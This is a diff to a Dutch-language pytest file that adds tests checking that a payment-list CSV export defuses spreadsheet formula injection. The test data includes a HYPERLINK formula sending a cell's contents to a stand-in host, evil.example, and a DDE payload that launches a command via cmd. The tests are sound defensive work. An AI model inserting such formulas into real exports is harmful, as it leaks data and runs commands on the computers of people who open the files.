@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 from decimal import Decimal
 
 import pytest
@@ -93,3 +95,36 @@ def test_fine_is_proposed_then_decided_by_a_teamleider(dossier, klantmanager, te
     assert (voorstel.status, voorstel.besloten_door) == ("opgelegd", teamleider)
     titels = list(TijdlijnGebeurtenis.objects.filter(dossier=dossier, soort="sanctie").values_list("titel", flat=True))
     assert "Boete van € 800.00 opgelegd" in titels
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+
+
+def test_payment_list_neutralises_a_formula_in_a_name_or_payee(dossier, klantmanager):
+    dossier.inburgeraar.voornamen = HYPERLINK
+    dossier.inburgeraar.save()
+    maak_ontzorgingsplan(
+        dossier,
+        door=klantmanager,
+        start=dt.date(2026, 11, 1),
+        lasten=[VasteLast("huur", "@SUM(1+1)*cmd|' /C calc'!A0", "NL91ABNA0417164300", Decimal("612.40"))],
+    )
+    tekst = betaallijst_csv(
+        Ontzorgingsbetaling.objects.filter(maand=dt.date(2026, 11, 1)).select_related("plan__dossier__inburgeraar"),
+        door=klantmanager,
+    )
+    rij = next(csv.reader(io.StringIO(tekst.split("\r\n", 1)[1]), delimiter=";"))
+    assert rij[1].startswith("'=HYPERLINK(")
+    assert rij[4].startswith("'@SUM(")
+    assert rij[6] == "612.40"
+
+
+def test_payment_list_download_neutralises_the_formula(km_client, dossier, klantmanager):
+    dossier.inburgeraar.voornamen = HYPERLINK
+    dossier.inburgeraar.save()
+    maak_ontzorgingsplan(dossier, door=klantmanager, start=dt.date(2026, 11, 1), lasten=LASTEN[:1])
+    antwoord = km_client.get("/ontzorgen/betaallijst.csv?maand=2026-11")
+    assert antwoord.status_code == 200
+    tekst = antwoord.content.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in tekst
+    assert ";=HYPERLINK(" not in tekst and ';"=HYPERLINK(' not in tekst
